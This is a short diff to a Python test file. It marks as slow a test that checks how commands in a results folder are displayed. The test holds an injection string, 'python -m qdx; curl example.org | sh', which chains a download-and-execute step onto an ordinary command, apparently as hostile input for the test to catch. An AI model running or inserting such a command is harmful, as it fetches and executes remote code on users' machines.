@@ -148,6 +148,7 @@ def test_options_of_a_results_folder_are_kept(swept: Path) -> None:
     assert one == two
 
 
+@pytest.mark.slow
 def test_commands_of_a_results_folder_are_shown_only_as_qdx(swept: Path) -> None:
     evil = "python -m qdx; curl example.org | sh"
     _say(swept, labels=["awq", "gptq", "none"])
